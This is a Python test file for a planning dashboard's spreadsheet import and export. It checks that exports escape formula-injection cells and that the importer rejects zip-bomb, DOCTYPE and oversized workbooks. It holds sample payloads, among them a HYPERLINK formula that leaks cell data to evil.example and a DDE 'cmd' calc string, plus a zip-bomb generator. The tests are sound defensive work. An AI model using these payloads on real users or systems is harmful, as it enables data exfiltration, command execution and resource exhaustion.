"""Spreadsheets in and out: exports never carry a live formula from data (plan export, the
template's "Danh mục" sheet, the weekly report, CSV), and the plan importer refuses
zip-bomb-like workbooks, DOCTYPEs and overlong cells cheaply and with a clear reason."""
from __future__ import annotations

import io
import re
import resource
import time
import zipfile
from datetime import timedelta

import pytest
from openpyxl import Workbook, load_workbook

from dashboard.catalog.loader import apply_catalog, parse_catalog
from dashboard.plans import store, template
from dashboard.plans.export_safety import csv_text, formula_like, from_csv_text
from dashboard.plans.importer import MAX_UNPACKED_BYTES, parse_plan_file
from dashboard.readmodels import plans as views
from dashboard.reports.weekly import build_report_xlsx, weekly_report
from tests.test_plans_db import CATALOG, TODAY, UNITS
from tests.test_plans_import import REF, row, xlsx

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", True), ("+1", True), ("-1", True), ("@x", True), ("\tx", True), ("\rx", True),
    ("a=1", False), ("", False), (None, False), (5, False), ("Sở Y tế", False), ("'=1", False),
])
def test_formula_like_cells(value, expected):
    assert formula_like(value) is expected


@pytest.mark.parametrize("value", HOSTILE + ["plain", "'quoted already", "", "-"])
def test_csv_escape_round_trips(value):
    escaped = csv_text(value)
    assert not formula_like(escaped)
    assert from_csv_text(escaped) == value


def formulas(data: bytes) -> list[str]:
    """Every <f> element (a formula) in any sheet of the workbook, and every cell openpyxl reads as one."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                found += re.findall(rb"<f[ >].*?</f>", archive.read(name))
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for cells in sheet.iter_rows():
            found += [c.coordinate for c in cells if c.data_type == "f"]
    return found


@pytest.fixture
def db(any_db):
    hostile_catalog = CATALOG.replace("name_vi: Sở Y tế", "name_vi: '" + HOSTILE[0].replace("'", "''") + "'")
    with any_db.session() as session:
        apply_catalog(session, parse_catalog(hostile_catalog), units=UNITS)
    return any_db


def hostile_task(title: str, notes: str, owner: str = "@owner") -> dict:
    return {"agency": "syt", "partner": "", "title": title, "category": "tich_hop", "owner": owner,
            "start": TODAY - timedelta(days=30), "due": TODAY - timedelta(days=1), "status": "dang_thuc_hien",
            "percent": 10, "systems": ["lgsp"], "notes": notes}


def test_plan_export_template_and_weekly_report_write_text_not_formulas(db):
    rows = [hostile_task(f"{value} #{i}", value) for i, value in enumerate(HOSTILE)]
    with db.session() as session:
        report = parse_plan_file("plan.csv", template.build_csv(rows), views.reference(session))
        assert report.ok, [(p.row, p.message("en")) for p in report.problems]
        store.apply_import(session, report, TODAY)
    with db.session() as session:
        agencies, systems = views.code_lists(session)
        assert any(name.startswith("=HYPERLINK") for _, name in agencies)
        exported = template.build_xlsx(views.export_rows(session), agencies, systems)
        weekly = build_report_xlsx(weekly_report(session, now=None))
        reimported = parse_plan_file("export.xlsx", exported, views.reference(session))
    assert formulas(exported) == []
    assert formulas(weekly) == []
    book = load_workbook(io.BytesIO(exported))
    codes = [c.value for r in book[template.CODES_SHEET].iter_rows() for c in r]
    assert HOSTILE[0] in codes  # the name is kept, as text
    plan_cells = [c for r in book[template.SHEET_NAME].iter_rows(min_row=2) for c in r if formula_like(c.value)]
    assert plan_cells and all(c.data_type == "s" and c.quotePrefix for c in plan_cells)
    # and an exported file imports back unchanged
    assert reimported.ok and sorted(t.notes for t in reimported.tasks) == sorted(v.strip() for v in HOSTILE)  # cells are trimmed
    weekly_text = [c.value for s in load_workbook(io.BytesIO(weekly)).worksheets for r in s.iter_rows() for c in r]
    assert any(isinstance(v, str) and v.startswith("=HYPERLINK") for v in weekly_text)


def test_csv_export_escapes_formula_cells():
    import csv

    data = template.build_csv([hostile_task(value, value) for value in HOSTILE]).decode("utf-8-sig")
    fields = [f for r in list(csv.reader(io.StringIO(data)))[1:] for f in r]
    assert sum(f.startswith("'") for f in fields) >= 2 * len(HOSTILE)  # titles and notes (and "@owner")
    assert not any(formula_like(f) for f in fields)


# ------------------------------------------------------------------ importer limits


def bomb(cell_bytes: int) -> bytes:
    """A valid workbook whose one shared string is `cell_bytes` long: ~100 kB on disk for 100 MB."""
    book = Workbook()
    sheet = book.active
    sheet.title = template.SHEET_NAME
    sheet.append([c.vi for c in template.COLUMNS])
    sheet.append(row(notes="PLACEHOLDER"))
    out = io.BytesIO()
    book.save(out)
    src = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    dst_buffer = io.BytesIO()
    with zipfile.ZipFile(dst_buffer, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if b"PLACEHOLDER" in data:
                data = data.replace(b"PLACEHOLDER", b"x" * cell_bytes)
            dst.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED, compresslevel=9)
    return dst_buffer.getvalue()


def test_a_small_workbook_holding_a_100_mb_cell_is_refused_cheaply():
    data = bomb(100 * 1024 * 1024)
    assert len(data) < 400_000
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    report = parse_plan_file("plan.xlsx", data, REF)
    elapsed = time.perf_counter() - started
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) / 1024
    assert not report.ok and [p.code for p in report.problems] == ["too_large_unpacked"]
    assert "MB" in report.problems[0].message("vi") and "unpacks" in report.problems[0].message("en")
    assert elapsed < 2.0, elapsed
    assert grown_mb < 50, grown_mb  # nothing near 100 MB was unpacked


def test_a_cell_over_its_limit_is_refused_with_the_limit():
    report = parse_plan_file("plan.xlsx", bomb(5000), REF)
    assert not report.ok
    assert [(p.row, p.column, p.code) for p in report.problems] == [(2, "notes", "too_long")]
    assert "2000" in report.problems[0].message("en")
    csv_report = parse_plan_file("plan.csv", ("\ufeff" + ",".join(c.vi for c in template.COLUMNS) + "\n"
                                             + ",".join(str(v) for v in row(owner="o" * 300)) + "\n").encode(), REF)
    assert [(p.column, p.code) for p in csv_report.problems] == [("owner", "too_long")]
    ok = parse_plan_file("plan.xlsx", xlsx([row(notes="n" * 2000)]), REF)
    assert ok.ok


def test_too_many_cells_are_refused_before_reading():
    book = Workbook()
    sheet = book.active
    sheet.title = template.SHEET_NAME
    sheet.append([c.vi for c in template.COLUMNS])
    sheet.append(row())
    sheet.cell(row=2, column=16_000, value="far away")  # the declared dimension: 2 x 16,000 cells... and more rows
    sheet.cell(row=40, column=16_000, value="far away")
    out = io.BytesIO()
    book.save(out)
    report = parse_plan_file("plan.xlsx", out.getvalue(), REF)
    assert [p.code for p in report.problems] == ["too_many_cells"]


def test_a_workbook_with_a_doctype_is_refused_clearly():
    data = xlsx([row()])
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            content = src.read(item.filename)
            if item.filename == "xl/workbook.xml":
                doctype = b'<!DOCTYPE x [<!ENTITY big "' + b"y" * 100 + b'">]>'
                content = content.replace(b"?>", b"?>" + doctype, 1) if content.startswith(b"<?xml") else doctype + content
            dst.writestr(item, content)
    report = parse_plan_file("plan.xlsx", out.getvalue(), REF)
    assert [p.code for p in report.problems] == ["xml_doctype"]
    assert "DOCTYPE" in report.problems[0].message("en")


def test_limits_are_sane():
    assert MAX_UNPACKED_BYTES < 100 * 1024 * 1024


def test_weekly_xlsx_keeps_numbers_and_days_as_numbers_with_display_formats(db):
    # Before: days were text ("01/12/2026") and percentages bare floats with no format.
    from datetime import date

    from openpyxl import load_workbook

    rows = [hostile_task(f"task {i}", f"note {i}") for i in range(3)]
    with db.session() as session:
        report = parse_plan_file("plan.csv", template.build_csv(rows), views.reference(session))
        assert report.ok, [(p.row, p.message("en")) for p in report.problems]
        store.apply_import(session, report, TODAY)
    with db.session() as session:
        book = load_workbook(io.BytesIO(build_report_xlsx(weekly_report(session, now=None))))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for cell in row]
    floats = [c for c in cells if isinstance(c.value, float)]
    days = [c for c in cells if c.is_date]
    assert floats and all(c.number_format == "#,##0.0" for c in floats)
    assert days and all(c.number_format.startswith("DD/MM/YYYY") for c in days)
    assert all(isinstance(c.value.date() if hasattr(c.value, "date") else c.value, date) for c in days)
